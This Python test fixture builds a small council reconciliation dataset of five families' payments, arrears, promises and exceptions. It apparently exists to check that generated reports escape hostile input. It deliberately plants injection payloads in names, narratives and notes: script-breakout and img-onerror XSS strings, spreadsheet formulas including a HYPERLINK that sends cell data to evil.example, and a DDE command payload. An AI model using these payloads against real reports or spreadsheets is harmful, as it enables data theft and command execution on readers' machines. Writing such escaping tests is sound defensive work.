"""A council of five families, by hand: small enough to check every figure by eye, with hostile names and narratives.

`F1` is owed and was promised it; `F2` is settled, with a hostile name; `F3` is overpaid; `F4` owes nothing and is paid
ahead; `F5` cannot be told. One payment is in suspense.
"""

import hashlib
from datetime import date, timedelta

import polars as pl

from reconciliation import shapes
from reconciliation.policy import default_policy
from reconciliation.position import Position
from reconciliation.records import RECORDS
from reconciliation.reports.edition import Edition
from reconciliation.results import Money, Results

AS_OF = date(2026, 6, 10)
HOSTILE_NAME = "</script><script>document.title='owned'</script>"
HOSTILE_NARRATIVE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
HOSTILE_NOTE = "<img src=x onerror=\"document.title='owned'\">"


LIVED = {
    "exception_id": pl.String,
    **{name: shapes.RAISED[name] for name in ("severity", "code", "family_id", "subject", "amount_pence", "since")},
    "age_days": pl.Int64,
    "items": pl.Int64,
    "evidence": pl.String,
    "first_seen": pl.Date,
    **dict.fromkeys(("status", "decision", "decision_note", "decided_by"), pl.String),
    "decided_on": pl.Date,
    "snooze_until": pl.Date,
}


def frame(shape: dict, *rows: tuple) -> pl.DataFrame:
    """Rows in the order of a declared shape's columns."""
    return pl.DataFrame(list(rows), schema=shape, orient="row")


def record(name: str, *rows: dict) -> pl.DataFrame:
    """Typed rows of a record; a column that is not given is blank."""
    return pl.DataFrame(list(rows), schema=RECORDS[name].schema())


FAMILIES = record(
    "families",
    {"family_id": "F1", "recipient_name": "Una Brown", "carer_name": "Bea Brown", "service": "adult", "team": "North"},
    {"family_id": "F2", "recipient_name": HOSTILE_NAME, "service": "adult", "team": "@SUM(1+1)"},
    {"family_id": "F3", "recipient_name": "Siân O’Neill", "service": "child", "team": "South"},
    {"family_id": "F4", "recipient_name": "-2+3", "service": "adult", "team": "South"},
    {"family_id": "F5", "recipient_name": "Amir Shah", "service": "carer", "team": "North"},
).with_columns(opened_on=date(2026, 4, 6), recorded_on=date(2026, 4, 6))

ENTITLEMENTS = record(
    "entitlements",
    *(
        {
            "entitlement_id": f"E{n}",
            "family_id": f"F{n}",
            "kind": "weekly",
            "amount_pence": 15000,
            "weekly_contribution_pence": 2000,
            "contribution_method": "net",
            "schedule": "four_weekly_advance",
            "effective_from": date(2026, 4, 6),
            "interim": False,
            "status": "active",
            "recorded_on": date(2026, 4, 6),
        }
        for n in range(1, 6)
    ),
)

PERIODS = (
    (date(2026, 4, 6), date(2026, 4, 2)),
    (date(2026, 5, 4), date(2026, 5, 1)),
    (date(2026, 6, 1), date(2026, 6, 1)),
)
PAID = {"F1": (52000, 20000, 0), "F2": (52000,) * 3, "F3": (52000,) * 3, "F4": (52000,) * 3, "F5": (52000, 52000, 0)}
"""What each family was paid for each of the three periods, of £520.00 due each time."""


def _ledger() -> pl.DataFrame:
    rows = []
    for family, paid in PAID.items():
        for (start, due_on), pence in zip(PERIODS, paid, strict=True):
            dues = (60000, 8000, 52000, False, pence, 52000 - pence, due_on if pence else None)
            rows.append((family, f"E{family[1:]}", start, start + timedelta(days=27), due_on, 2800, *dues))
    upcoming = (date(2026, 6, 15), date(2026, 6, 28), date(2026, 6, 15), 1400, 30000, 4000, 26000, True, 26000, 0)
    rows.append(("F4", "E4", *upcoming, date(2026, 6, 9)))
    return frame(shapes.LEDGER, *rows)


def _allocations() -> pl.DataFrame:
    rows = [
        (family, f"T{family[1:]}{n}", f"E{family[1:]}", start, "regular", due_on, pence, due_on)
        for family, paid in PAID.items()
        for n, ((start, due_on), pence) in enumerate(zip(PERIODS, paid, strict=True))
        if pence
    ]
    early = ("F4", "T49", "E4", date(2026, 6, 15), "fifo", date(2026, 6, 9), 26000, date(2026, 6, 15))
    return frame(shapes.ALLOCATIONS, *rows, early)


def _movement(transaction: str, family: str | None, kind: str, posted_on: date, pence: int, **more) -> dict:
    remaining = pence if kind in ("payment", "remedy") and family else 0
    base = {"transaction_id": transaction, "family_id": family, "kind": kind, "posted_on": posted_on}
    sums = dict.fromkeys(("unexplained_pence", "counted_pence", "unallocated_pence"), 0)
    return base | {"amount_pence": pence, "remaining_pence": remaining} | sums | more


def _movements() -> pl.DataFrame:
    rows = [
        _movement(f"T{family[1:]}{n}", family, "payment", due_on, pence, identified_by="family_id", narrative="DP")
        for family, paid in PAID.items()
        for n, ((_, due_on), pence) in enumerate(zip(PERIODS, paid, strict=True))
        if pence
    ]
    rows += [
        _movement("T39", "F3", "payment", date(2026, 6, 3), 10000, unallocated_pence=10000),
        _movement("T49", "F4", "payment", date(2026, 6, 9), 26000),
        _movement("T18", "F1", "remedy", date(2026, 6, 2), 5000, promise_id="M2"),
        _movement("T58", "F5", "return", date(2026, 6, 4), -3000, unexplained_pence=3000),
        _movement("T99", None, "payment", date(2026, 6, 5), 1234, narrative=HOSTILE_NARRATIVE, payee_reference="V9"),
    ]
    return pl.DataFrame(rows, schema=shapes.MOVEMENTS)


def _balances() -> pl.DataFrame:
    def row(family, standing, paid, arrears=0, prepaid=0, overpaid=0, remedies=0, oldest=None, aged=(0, 0, 0, 0)):
        days = (AS_OF - oldest).days if oldest else None
        return (family, standing, 156000, paid, arrears, prepaid, overpaid, 0, 0, remedies, 0, 0, oldest, days, *aged)

    return frame(
        shapes.BALANCES,
        row("F1", "owed_promised", 72000, 84000, remedies=5000, oldest=date(2026, 5, 1), aged=(52000, 32000, 0, 0)),
        row("F2", "settled", 156000),
        row("F3", "overpaid", 166000, overpaid=10000),
        row("F4", "settled", 182000, prepaid=26000),
        row("F5", "cannot_tell", 104000, 52000, oldest=date(2026, 6, 1), aged=(52000, 0, 0, 0)),
    )


PROMISES = frame(
    shapes.PROMISES,
    ("M1", "F1", "arrears", 84000, 0, 84000, date(2026, 4, 20), date(2026, 5, 20), 21, "overdue"),
    ("M2", "F1", "distress", 20000, 5000, 15000, date(2026, 5, 20), date(2026, 7, 1), None, "open"),
    ("M3", "F1", "apology", None, None, None, date(2026, 5, 20), None, None, "undated"),
)

SUSPENSE = pl.DataFrame(
    [
        {
            "transaction_id": "T99",
            "posted_on": date(2026, 6, 5),
            "amount_pence": 1234,
            "kind": "payment",
            "payee_reference": "V9",
            "narrative": HOSTILE_NARRATIVE,
            "candidate_1": "F2",
            "candidate_1_score": 61,
            "candidate_1_reason": "its payee reference is one letter away",
        }
    ],
    schema=shapes.SUSPENSE,
)

QUARANTINE = pl.DataFrame(
    [
        {
            "source": "transactions",
            "source_file": "transactions.csv",
            "row": 7,
            "record": "transactions",
            "reason": "amount: not pounds with at most two decimals",
            "raw": '{"transaction_id": "T57", "amount": "12.345"}',
            "key": "T57",
            "family_id": "F5",
        }
    ],
    schema=shapes.QUARANTINE,
)


def exception_id(code: str, subject: str) -> str:
    """An id of the form that real exceptions have."""
    return f"EX-{hashlib.sha256(f'{code} {subject}'.encode()).hexdigest()[:12]}"


def _lived() -> pl.DataFrame:
    def row(severity, code, family, subject, pence, since, status="open", items=1, note=None, decision=None):
        age = (AS_OF - since).days
        decided = ("J. Officer", date(2026, 6, 9)) if decision else (None, None)
        snoozed = date(2026, 6, 20) if status == "snoozed" else None
        life = (date(2026, 6, 1), status, decision, note, *decided, snoozed)
        identity = (exception_id(code, subject), severity, code, family, subject)
        return (*identity, pence, since, age, items, "", *life)

    return frame(
        LIVED,
        row("critical", "ARREARS", "F1", "F1", 84000, date(2026, 5, 1), "new", 2),
        row(
            "high",
            "PROMISE_OVERDUE",
            "F1",
            "M1",
            84000,
            date(2026, 5, 20),
            "in_progress",
            21,
            HOSTILE_NOTE,
            "in_progress",
        ),
        row(
            "medium", "OVERPAYMENT", "F3", "F3", 10000, date(2026, 6, 3), "closed", 1, "=cmd|' /C calc'!A0", "accepted"
        ),
        row("low", "LATE_PAYMENT", "F2", "F2", 52000, date(2026, 5, 1)),
        row("high", "ARREARS", "F5", "F5", 52000, date(2026, 6, 1)),
        row("medium", "UNMATCHED_RETURN", "F5", "T58", 3000, date(2026, 6, 4), "snoozed", 1, None, "open"),
        row("medium", "SUSPENSE", None, "T99", -1234, date(2026, 6, 5)),
        row("critical", "NO_PLAN", "F2", "F2", None, date(2026, 4, 6)),
        row("critical", "SENIOR_NOT_INFORMED", "F1", "F1:director", None, date(2026, 5, 20), items=9),
    )


BRIEFING = frame(
    shapes.BRIEFING,
    ("F1", "promise overdue", date(2026, 5, 20), 84000, "director", date(2026, 5, 25), None, 9),
    ("F1", "ombudsman case", date(2026, 6, 1), None, "portfolio_holder", date(2026, 6, 2), date(2026, 6, 3), None),
)

LOOKBACK = frame(
    shapes.LOOKBACK,
    ("F1", True, True, True, False, True, 4, True),
    *((family, False, False, False, False, False, 0, False) for family in ("F2", "F3", "F4", "F5")),
)

COMPENSATION = frame(
    shapes.COMPENSATION,
    ("F1", "interest", "none", 0, 0, None, "no interest", True, True),
    ("F1", "interest", "county_court", 393, 393, None, "County Courts Act 1984 s69", False, True),
    ("F1", "interest", "bank_rate", None, None, "the table ends on 2026-06-01", "Bank of England", False, True),
    ("F1", "distress", None, 0, 15000, "40 days overdue", "LGSCO, Guidance on remedies", False, True),
)

INTEREST = frame(
    shapes.INTEREST,
    ("F1", "none", 0, None),
    ("F1", "county_court", 393, None),
    ("F1", "bank_rate", None, "the table ends on 2026-06-01"),
)

SCRUTINY = frame(shapes.SCRUTINY, ("North", "families", "<5"), ("All teams", "families", "5"))


def results() -> Results:
    """The figures of the five families on 10 June 2026."""
    ledger = _ledger()
    money = Money(
        families=FAMILIES,
        ledger=ledger,
        instalments=shapes.shaped(ledger, shapes.INSTALMENTS),
        movements=_movements(),
        allocations=_allocations(),
        balances=_balances().drop("standing"),
        interest=INTEREST,
        loose_payments=pl.DataFrame(),
        open_instalments=pl.DataFrame(),
    )
    return Results(
        position=Position.at(AS_OF),
        policy=default_policy(),
        records={name: record.empty() for name, record in RECORDS.items()}
        | {"families": FAMILIES, "entitlements": ENTITLEMENTS},
        money=money,
        balances=_balances(),
        suspense=SUSPENSE,
        promises=PROMISES,
        raised=shapes.shaped(_lived(), shapes.RAISED),
        compensation=COMPENSATION,
        briefing=BRIEFING,
        lookback=LOOKBACK,
        scrutiny=SCRUTINY,
    )


def edition(**over) -> Edition:
    """The edition of the five families; `over` replaces parts of it."""
    parts = {
        "results": results(),
        "exceptions": _lived(),
        "run_id": "run-1",
        "quarantine": QUARANTINE,
        "not_checked": ("vacancies", "reviews"),
    }
    return Edition(**(parts | over))
